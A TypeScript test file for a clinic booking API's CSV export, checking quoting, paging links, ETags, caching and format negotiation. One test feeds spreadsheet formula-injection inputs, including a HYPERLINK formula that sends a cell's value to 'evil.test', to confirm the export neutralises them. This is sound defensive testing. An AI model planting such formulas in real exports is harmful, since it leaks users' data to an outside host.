// The lists as CSV (docs/api.md, "CSV for spreadsheets"): Accept: text/csv answers RFC 4180 in UTF-8
// with CRLF, a header row of the JSON's fields in the JSON's order, and each record's values as the
// JSON writes them (null empty); the same filters, paging and validation as JSON; X-Total-Count
// and Link rel="next" (followed here to the last page); an ETag of its own and 304; the page cache
// keeps CSV pages with their headers; errors stay JSON. The CSV is read back by a parser written
// here from RFC 4180, not by the library that wrote it.
import { Readable } from 'node:stream';
import { gunzipSync } from 'node:zlib';
import type { LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { listFormat } from '../../src/http/csv.js';
import { importJsonLines } from '../../src/services/import.js';
import { buildTestApp, type TestApp } from '../helpers/app.js';
import { dialects } from '../helpers/db.js';
import { A, FIXTURE_NOW_MS, uid } from '../helpers/fixtures.js';
import { call, citaA, expectError, JSON_UTF8, ok, PATHS, tick, type ApiPath } from './helpers.js';

const CSV = 'text/csv; charset=utf-8';
const ACCEPT_CSV = { accept: 'text/csv' };

/** RFC 4180, section 2: records end with CRLF; a field in double quotes may hold commas, CRLF and "" (a quote). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        const q = text.indexOf('"', i);
        if (q < 0) throw new Error('unterminated quoted field');
        field += text.slice(i, q);
        if (text[q + 1] === '"') {
          field += '"';
          i = q + 2;
        } else {
          i = q + 1;
          break;
        }
      }
    } else {
      const end = text.slice(i).search(/,|\r\n/);
      const stop = end < 0 ? text.length : i + end;
      field = text.slice(i, stop);
      if (/["\r\n]/.test(field)) throw new Error(`unquoted field holds a quote or a line break: ${JSON.stringify(field)}`);
      i = stop;
    }
    row.push(field);
    if (text[i] === ',') i++;
    else if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
    } else if (i < text.length) throw new Error(`expected , or CRLF at ${i}`);
  }
  if (row.length) throw new Error('the last record does not end with CRLF');
  return rows;
}

/** A JSON value as its CSV cell: null empty, text as it is, numbers and booleans as JSON writes them. */
const cell = (v: unknown) => (v === null ? '' : typeof v === 'string' ? v : JSON.stringify(v));

const ITEMS: Record<ApiPath, string> = { '/api/v1/citas': 'citas', '/api/v1/clientas': 'clientas', '/api/v1/llamadas': 'llamadas' };

/** Wide windows: every record of clinic A. */
const WIDE: Record<ApiPath, string> = {
  '/api/v1/citas': '/api/v1/citas?desde=2026-01-01&hasta=2026-12-31',
  '/api/v1/clientas': '/api/v1/clientas',
  '/api/v1/llamadas': '/api/v1/llamadas?desde=2026-01-01',
};

/** The next page's URL from a Link header, or null. */
function nextLink(res: LightMyRequestResponse): string | null {
  const link = res.headers['link'] as string | undefined;
  if (link === undefined) return null;
  const m = /^<(\/api\/v1\/[^>]+)>; rel="next"$/.exec(link);
  expect(m, link).not.toBeNull();
  return m![1]!;
}

describe.each(dialects())('CSV on %s', (dialect) => {
  let t: TestApp;
  beforeAll(async () => {
    t = await buildTestApp(dialect);
  });
  afterAll(async () => {
    await t.close();
  });
  beforeEach(() => tick(t));

  const csv = (url: string, opts: { key?: string; headers?: Record<string, string> } = {}) =>
    call(t, url, { ...(opts.key ? { key: opts.key } : {}), headers: { ...ACCEPT_CSV, ...opts.headers } });

  it.each(PATHS)('%s: a header row of the JSON fields in order, then each record as the JSON has it, for each clinic', async (path) => {
    for (const key of [t.keyA, t.keyB]) {
      const json = await ok(t, WIDE[path], { key });
      const records = json[ITEMS[path]] as Record<string, unknown>[];
      expect(records.length).toBeGreaterThan(0);
      const res = await csv(WIDE[path], { key });
      expect(res.statusCode, res.body).toBe(200);
      expect(res.headers['content-type']).toBe(CSV);
      expect(res.headers['cache-control']).toBe('no-store');
      expect(res.headers['vary']).toBe('Accept');
      expect(res.headers['x-total-count']).toBe(String(json.total));
      // UTF-8 without a byte-order mark, CRLF after every record (bare LF only inside quotes)
      expect(res.rawPayload.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf]))).toBe(false);
      expect(res.rawPayload.toString('utf8')).toBe(res.body);
      const rows = parseCsv(res.body);
      expect(rows[0]).toEqual(Object.keys(records[0]!));
      expect(rows.slice(1)).toEqual(records.map((r) => Object.values(r).map(cell)));
    }
  });

  it('writes null as an empty cell, booleans and numbers as the JSON does', async () => {
    const clientas = parseCsv((await csv('/api/v1/clientas')).body);
    const header = clientas[0]!;
    const maria = clientas.find((r) => r[0] === A.maria)!;
    const angela = clientas.find((r) => r[0] === A.angela)!;
    const col = (row: string[], name: string) => row[header.indexOf(name)];
    expect([col(maria, 'vip'), col(angela, 'vip')]).toEqual(['true', 'false']);
    expect(col(angela, 'idioma')).toBe('');
    expect(col(maria, 'email')).toBe('mj@example.com');
    const citas = parseCsv((await csv('/api/v1/citas?desde=2026-03-28&hasta=2026-03-28')).body);
    const precio = citas[0]!.indexOf('precio');
    expect(citas.slice(1).map((r) => r[precio])).toEqual(['25.5', '55.5']);
  });

  it('quotes a field that holds a comma, a quote or a line break, and keeps every character', async () => {
    const nombre = 'Ana "La Rubia", Pérez';
    const notas = 'Primera línea,\r\nsegunda "con comillas"\nfin';
    const lines = [
      {
        type: 'clienta',
        id: A.pct,
        nombre,
        telefono: '+34633444555',
        vip: false,
        cliente_desde: '2024-05-10',
        created_at: '2024-05-10T10:00:00+02:00',
      },
      {
        type: 'cita',
        id: citaA(2),
        clienta_id: A.pct,
        fecha_hora: '2026-03-28T09:00:00+01:00',
        servicio: 'Limpieza facial',
        duracion_min: 60,
        precio: 25.5,
        estado: 'confirmada',
        profesional_nombre: 'Laura Martín',
        sede_nombre: 'Sede Centro',
        notas,
        created_at: '2026-03-01T09:00:00+01:00',
      },
    ].map((l) => JSON.stringify(l));
    const done = await importJsonLines(t.database, t.clinicA.id, Readable.from([lines.join('\n')]), { now: () => t.clock.now });
    expect(done.changed).toBe(true);
    const res = await csv('/api/v1/citas?desde=2026-03-28&hasta=2026-03-28');
    expect(res.body).toContain(`"Ana ""La Rubia"", Pérez"`);
    const rows = parseCsv(res.body);
    const json = (await ok(t, '/api/v1/citas?desde=2026-03-28&hasta=2026-03-28')).citas as Record<string, unknown>[];
    expect(rows.slice(1)).toEqual(json.map((r) => Object.values(r).map(cell)));
    const row = rows.find((r) => r[0] === citaA(2))!;
    expect(row[rows[0]!.indexOf('cliente_nombre')]).toBe(nombre);
    expect(row[rows[0]!.indexOf('notas')]).toBe(notas);
  });

  /** Imports JSON lines into clinic A. */
  async function importA(records: object[]): Promise<void> {
    const text = records.map((l) => JSON.stringify(l)).join('\n');
    const done = await importJsonLines(t.database, t.clinicA.id, Readable.from([text]), { now: () => t.clock.now });
    expect(done.changed).toBe(true);
  }
  const citaLine = (n: number, over: Record<string, unknown>) => ({
    type: 'cita',
    id: citaA(n),
    clienta_id: A.pct,
    fecha_hora: `2026-04-02T1${n % 10}:00:00+02:00`,
    servicio: 'Limpieza facial',
    duracion_min: 60,
    precio: 25.5,
    estado: 'confirmada',
    profesional_nombre: 'Laura Martín',
    sede_nombre: 'Sede Centro',
    created_at: '2026-03-01T09:00:00+01:00',
    ...over,
  });

  it('quotes a field with a lone line feed or a lone carriage return: one record stays one row', async () => {
    await importA([citaLine(5, { notas: 'RED\nInjected line' }), citaLine(6, { notas: 'uno\rdos' })]);
    const res = await csv('/api/v1/citas?desde=2026-04-02&hasta=2026-04-02');
    expect(res.body).toContain('"RED\nInjected line"');
    expect(res.body).toContain('"uno\rdos"');
    // Outside quotes, every line ends with CRLF: no bare LF or CR starts a row of its own.
    const rows = parseCsv(res.body);
    expect(rows).toHaveLength(3);
    const notas = rows[0]!.indexOf('notas');
    expect(rows.slice(1).map((r) => r[notas])).toEqual(['RED\nInjected line', 'uno\rdos']);
  });

  it("neutralises free-text cells that would start a formula (a ' before, in quotes), never phones, numbers or the JSON", async () => {
    const id = uid('a', 1, 70);
    const hyperlink = '=HYPERLINK("http://evil.test/?"&A1,"x")';
    await importA([
      {
        type: 'clienta',
        id,
        nombre: hyperlink,
        telefono: '+34611222333',
        email: '-2+3@evil.test',
        vip: false,
        cliente_desde: '2024-05-10',
        created_at: '2024-05-10T10:00:00+02:00',
      },
      citaLine(7, { clienta_id: id, servicio: '+cmd', profesional_nombre: '@SUM(1)', sede_nombre: '\tSede', notas: '\rnota' }),
    ]);
    const clientas = await csv('/api/v1/clientas');
    expect(clientas.body).toContain(`"'=HYPERLINK(""http://evil.test/?""&A1,""x"")"`);
    const crows = parseCsv(clientas.body);
    const col = (rows: string[][], row: string[], name: string) => row[rows[0]!.indexOf(name)];
    const clienta = crows.find((r) => r[0] === id)!;
    expect(col(crows, clienta, 'nombre')).toBe(`'${hyperlink}`);
    expect(col(crows, clienta, 'email')).toBe("'-2+3@evil.test");
    expect(col(crows, clienta, 'telefono')).toBe('+34611222333');
    // Every other clienta's phone keeps its + too.
    const telefono = crows[0]!.indexOf('telefono');
    expect(crows.slice(1).every((r) => /^\+\d+$/.test(r[telefono]!))).toBe(true);
    const citas = parseCsv((await csv('/api/v1/citas?desde=2026-04-02&hasta=2026-04-02')).body);
    const cita = citas.find((r) => r[0] === citaA(7))!;
    expect(
      ['cliente_nombre', 'telefono', 'servicio', 'precio', 'profesional_nombre', 'sede_nombre', 'notas'].map((c) => col(citas, cita, c)),
    ).toEqual([`'${hyperlink}`, '+34611222333', "'+cmd", '25.5', "'@SUM(1)", "'\tSede", "'\rnota"]);
    // The JSON is never changed.
    const json = (await ok(t, '/api/v1/clientas')).clientas as Record<string, unknown>[];
    expect(json.find((r) => r['id'] === id)).toMatchObject({ nombre: hyperlink, email: '-2+3@evil.test' });
  });

  it.each(PATHS)('%s: Link rel="next" walks every page (the days applied written in) and is absent on the last', async (path) => {
    const all = parseCsv((await csv(WIDE[path])).body).slice(1);
    expect(all.length).toBeGreaterThan(2);
    const sep = WIDE[path].includes('?') ? '&' : '?';
    let url: string | null = `${WIDE[path]}${sep}limit=2`;
    const seen: string[][] = [];
    let pages = 0;
    while (url !== null) {
      const res = await csv(url);
      expect(res.statusCode, url).toBe(200);
      expect(res.headers['x-total-count']).toBe(String(all.length));
      const rows = parseCsv(res.body);
      expect(rows[0]!.length).toBeGreaterThan(5);
      seen.push(...rows.slice(1));
      url = nextLink(res);
      if (url !== null) expect(new URL(url, 'http://x').searchParams.get('offset')).toBe(String(2 * ++pages));
    }
    expect(seen).toEqual(all);
    // The default window is written into the link: paging does not move with the clinic's midnight.
    if (path !== '/api/v1/clientas') {
      const first = await csv(`${path}?limit=1`);
      const link = new URL(nextLink(first)!, 'http://x').searchParams;
      expect(link.get('desde')).toMatch(/^\d{4}-\d{2}-\d{2}$/);
      expect(link.get('limit')).toBe('1');
      expect(link.get('offset')).toBe('1');
    }
  });

  it('keeps the filters in the link: estado, q, vip, updated_since (with no days added)', async () => {
    const estado = new URL(nextLink(await csv('/api/v1/citas?estado=confirmada&desde=2026-01-01&hasta=2026-12-31&limit=1'))!, 'http://x');
    expect(Object.fromEntries(estado.searchParams)).toEqual({
      estado: 'confirmada',
      desde: '2026-01-01',
      hasta: '2026-12-31',
      limit: '1',
      offset: '1',
    });
    const q = new URL(nextLink(await csv('/api/v1/clientas?q=mar&limit=1'))!, 'http://x');
    expect(Object.fromEntries(q.searchParams)).toEqual({ q: 'mar', limit: '1', offset: '1' });
    const since = await csv('/api/v1/citas?updated_since=2026-01-01T00:00:00%2B01:00&limit=1');
    const next = new URL(nextLink(since)!, 'http://x');
    expect(Object.fromEntries(next.searchParams)).toEqual({ updated_since: '2026-01-01T00:00:00+01:00', limit: '1', offset: '1' });
    // the link's URL asks for the next page indeed
    const page2 = await csv(nextLink(since)!);
    expect(page2.statusCode).toBe(200);
    expect(parseCsv(page2.body)[1]).toEqual(
      parseCsv((await csv('/api/v1/citas?updated_since=2026-01-01T00:00:00%2B01:00&limit=1&offset=1')).body)[1],
    );
    // past the end: the header row only, no link
    const past = await csv('/api/v1/clientas?offset=1000');
    expect(parseCsv(past.body)).toHaveLength(1);
    expect(past.headers['link']).toBeUndefined();
  });

  it('validates as JSON does, and every error stays JSON', async () => {
    expectError(await csv('/api/v1/citas?limit=0'), 400, 'invalid_parameter', 'limit');
    expectError(await csv('/api/v1/citas?desde=2026-03-10&hasta=2026-03-01'), 400, 'invalid_parameter', 'desde');
    expectError(await csv('/api/v1/clientas?foo=1'), 400, 'unknown_parameter', 'foo');
    expectError(await call(t, '/api/v1/llamadas', { key: null, headers: ACCEPT_CSV }), 401, 'missing_api_key');
    expectError(await csv('/api/v1/nope'), 404, 'not_found');
    // a refused request carries none of the CSV's headers
    const res = await csv('/api/v1/clientas?q=%20');
    expectError(res, 400, 'invalid_parameter', 'q');
    for (const h of ['etag', 'x-total-count', 'link']) expect(res.headers[h], h).toBeUndefined();
  });

  it('has an ETag of its own: a 304 for its tag, and never the JSON tag for CSV nor the CSV tag for JSON', async () => {
    const url = WIDE['/api/v1/citas'];
    const asCsv = await csv(url);
    const asJson = await call(t, url);
    const csvTag = asCsv.headers.etag as string;
    const jsonTag = asJson.headers.etag as string;
    expect(csvTag).toMatch(/^"[A-Za-z0-9_-]{27}"$/);
    expect(csvTag).not.toBe(jsonTag);
    const again = await csv(url, { headers: { 'if-none-match': csvTag } });
    expect(again.statusCode).toBe(304);
    expect(again.body).toBe('');
    expect(again.headers.etag).toBe(csvTag);
    expect(again.headers['vary']).toBe('Accept');
    expect((await csv(url, { headers: { 'if-none-match': jsonTag } })).statusCode).toBe(200);
    const jsonWithCsvTag = await call(t, url, { headers: { 'if-none-match': csvTag } });
    expect([jsonWithCsvTag.statusCode, jsonWithCsvTag.headers['content-type']]).toEqual([200, JSON_UTF8]);
  });

  it('is kept by the page cache with its headers, compressed like any page, and answered to HEAD without a body', async () => {
    const url = '/api/v1/llamadas?desde=2026-01-01&limit=2';
    const first = await csv(url);
    expect(first.headers['x-total-count']).toBe('5');
    expect(nextLink(first)).toBe('/api/v1/llamadas?desde=2026-01-01&limit=2&offset=2');
    const second = await csv(url);
    expect(second.rawPayload.equals(first.rawPayload)).toBe(true);
    for (const h of ['content-type', 'etag', 'x-total-count', 'link', 'vary', 'content-length'])
      expect(second.headers[h], h).toBe(first.headers[h]);
    // the JSON page of the same URL is kept apart
    expect((await call(t, url)).headers['content-type']).toBe(JSON_UTF8);
    expect((await csv(url)).rawPayload.equals(first.rawPayload)).toBe(true);
    const wide = await csv(WIDE['/api/v1/citas']);
    const gz = await csv(WIDE['/api/v1/citas'], { headers: { 'accept-encoding': 'gzip' } });
    expect(gz.headers['content-encoding']).toBe('gzip');
    expect(gz.headers['vary']).toBe('Accept, accept-encoding');
    expect(gunzipSync(gz.rawPayload).equals(wide.rawPayload)).toBe(true);
    const head = await call(t, url, { method: 'HEAD', headers: ACCEPT_CSV });
    expect([head.statusCode, head.body, head.headers['content-type'], head.headers.etag]).toEqual([200, '', CSV, first.headers.etag]);
    expect(head.headers['x-total-count']).toBe(first.headers['x-total-count']);
    // another clinic's page of the same URL is its own
    const b = await csv(url, { key: t.keyB });
    expect(b.headers.etag).not.toBe(first.headers.etag);
    expect(
      parseCsv(b.body)
        .slice(1)
        .every((r) => r[0]!.startsWith('0b')),
    ).toBe(true);
  });

  it('the feed, /me and single records answer JSON whatever the Accept', async () => {
    for (const url of ['/api/v1/eventos?cursor=now', '/api/v1/me', `/api/v1/citas/${citaA(3)}`]) {
      const res = await csv(url);
      expect([res.statusCode, res.headers['content-type']], url).toEqual([200, JSON_UTF8]);
    }
  });

  it.each([
    ['text/csv', 'csv'],
    ['TEXT/CSV', 'csv'],
    ['text/csv; charset=utf-8', 'csv'],
    ['text/csv; header=present', 'csv'],
    ['text/csv, application/json;q=0.5', 'csv'],
    ['application/json;q=0.9, text/csv', 'csv'],
    ['text/*', 'csv'],
    ['application/json, text/csv', 'json'],
    ['text/csv;q=0.5, application/json', 'json'],
    ['*/*', 'json'],
    ['text/html', 'json'],
    ['text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8', 'json'],
    ['text/csv; charset=iso-8859-1', 'json'],
    ['application/json;q=0, text/csv;q=0', 'json'],
    [';;;', 'json'],
  ] as const)('Accept: %s -> %s', async (accept, format) => {
    expect(listFormat(accept)).toBe(format);
    const res = await call(t, '/api/v1/clientas?limit=1', { headers: { accept } });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe(format === 'csv' ? CSV : JSON_UTF8);
  });

  it('without an Accept header: JSON, as always', async () => {
    expect(listFormat(undefined)).toBe('json');
    t.clock.now = Math.max(t.clock.now, FIXTURE_NOW_MS);
    const res = await t.app.inject({ url: '/api/v1/clientas?limit=1', headers: { authorization: `Bearer ${t.keyA}` } });
    expect(res.headers['content-type']).toBe(JSON_UTF8);
  });
});

describe('CSV with PAGE_CACHE_MB=0', () => {
  let off: TestApp;
  let on: TestApp;
  beforeAll(async () => {
    off = await buildTestApp('sqlite', { env: { PAGE_CACHE_MB: '0' } });
    on = await buildTestApp('sqlite');
  });
  afterAll(async () => {
    await Promise.all([off.close(), on.close()]);
  });

  it('builds every page with the same bytes and headers as the cache sends', async () => {
    for (const url of [...Object.values(WIDE), '/api/v1/citas?limit=2', '/api/v1/clientas?limit=1&offset=2']) {
      const built = await call(off, url, { headers: ACCEPT_CSV });
      expect(built.statusCode).toBe(200);
      await call(on, url, { headers: ACCEPT_CSV });
      const kept = await call(on, url, { headers: ACCEPT_CSV });
      expect(kept.rawPayload.equals(built.rawPayload), url).toBe(true);
      for (const h of ['content-type', 'x-total-count', 'link', 'vary']) expect(kept.headers[h], `${url} ${h}`).toBe(built.headers[h]);
    }
  });
});
